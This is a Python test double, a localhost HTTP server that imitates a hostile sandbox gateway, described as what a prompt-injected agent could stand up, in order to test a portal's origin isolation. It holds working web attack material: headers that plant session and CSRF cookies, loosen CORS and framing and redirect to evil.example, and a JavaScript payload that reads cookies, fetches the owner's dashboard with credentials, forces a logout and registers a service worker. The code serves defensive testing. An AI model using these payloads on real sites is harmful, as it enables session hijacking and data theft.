"""A stand-in for a sandbox's OpenClaw gateway, as hostile as a prompt-injected agent could be.

It records every request it receives (method, path, headers) and answers every path with the
headers a hostile gateway would send to break out of the Control UI origin: ``Set-Cookie``,
``Service-Worker-Allowed``, ``Access-Control-Allow-*``, ``X-Frame-Options: ALLOWALL``, a
permissive ``Content-Security-Policy``. ``/hostile.html`` is a page that tries, from the
Control UI origin, to read the portal's cookies and pages and to act with the owner's portal
session; ``/hostile.js`` reports what it got into ``<pre id=result>`` as JSON.

Use in-process: ``with GatewayDouble() as gw: gw.port``; point a sandbox row's
``backend_state["host_port"]`` at it.
"""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

HOSTILE_HEADERS = [
    ("Set-Cookie", "sessionid=planted-by-the-sandbox; Path=/"),
    ("Set-Cookie", "csrftoken=planted-by-the-sandbox; Path=/"),
    ("Service-Worker-Allowed", "/"),
    ("Access-Control-Allow-Origin", "*"),
    ("Access-Control-Allow-Credentials", "true"),
    ("X-Frame-Options", "ALLOWALL"),
    ("Content-Security-Policy", "default-src *"),
    ("Clear-Site-Data", '"*"'),
    ("Refresh", "0; url=http://evil.example/"),
]

HOSTILE_PAGE = b"""<!doctype html>
<html><head><title>hostile</title></head>
<body><pre id="result"></pre><script src="/hostile.js"></script></body></html>
"""

HOSTILE_JS = b"""
(async () => {
  const portal = new URLSearchParams(location.search).get("portal");
  const out = {cookie: document.cookie};
  const attempt = async (name, fn) => {
    try { out[name] = await fn(); } catch (e) { out[name] = "error:" + e.name; }
  };
  await attempt("read_dashboard", async () => {
    const r = await fetch(portal + "/dashboard/", {credentials: "include"});
    return "read:" + r.status + ":" + (await r.text()).slice(0, 4000);
  });
  await attempt("mint_ticket", async () => {
    const r = await fetch(portal + "/sandbox/control-ui/", {credentials: "include"});
    return "read:" + r.status + ":" + (await r.text()).slice(0, 4000);
  });
  await attempt("logout", async () => {
    const r = await fetch(portal + "/accounts/logout/", {
      method: "POST", credentials: "include", mode: "no-cors",
    });
    return "sent:" + r.type;
  });
  await attempt("chat_socket", () => new Promise((resolve) => {
    const ws = new WebSocket(portal.replace("http", "ws") + "/ws/chat/");
    ws.onmessage = (e) => { resolve("message:" + e.data.slice(0, 200)); ws.close(); };
    ws.onclose = (e) => resolve("closed:" + e.code);
    setTimeout(() => resolve("timeout"), 5000);
  }));
  await attempt("service_worker", async () => {
    await navigator.serviceWorker.register("/sw.js");
    return "registered";
  });
  document.getElementById("result").textContent = JSON.stringify(out);
})();
"""


class GatewayDouble:
    """A threaded HTTP server on a random 127.0.0.1 port; ``requests`` holds what it received."""

    def __init__(self) -> None:
        self.requests: list[dict[str, Any]] = []
        double = self

        class Handler(BaseHTTPRequestHandler):
            def _answer(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(length) if length else b""
                double.requests.append(
                    {
                        "method": self.command,
                        "path": self.path,
                        "headers": {k.lower(): v for k, v in self.headers.items()},
                        "body": body,
                    }
                )
                path = self.path.split("?", 1)[0]
                if path.startswith("/missing/"):  # the gateway has nothing there
                    self.send_response(404)
                    self.send_header("Content-Length", "0")
                    self.end_headers()
                    return
                if path == "/hostile.js" or path == "/sw.js":
                    payload, kind = HOSTILE_JS, "application/javascript"
                else:
                    payload, kind = HOSTILE_PAGE, "text/html; charset=utf-8"
                self.send_response(200)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(payload)))
                for name, value in HOSTILE_HEADERS:
                    self.send_header(name, value)
                self.end_headers()
                if self.command != "HEAD":
                    self.wfile.write(payload)

            do_GET = do_POST = do_HEAD = do_PUT = do_DELETE = _answer

            def log_message(self, format: str, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.port = int(self.server.server_address[1])
        # shutdown() waits for serve_forever's next poll (every 0.5 s by default)
        self.thread = threading.Thread(
            target=self.server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True
        )

    def __enter__(self) -> GatewayDouble:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()

    @property
    def last(self) -> dict[str, Any]:
        return self.requests[-1]
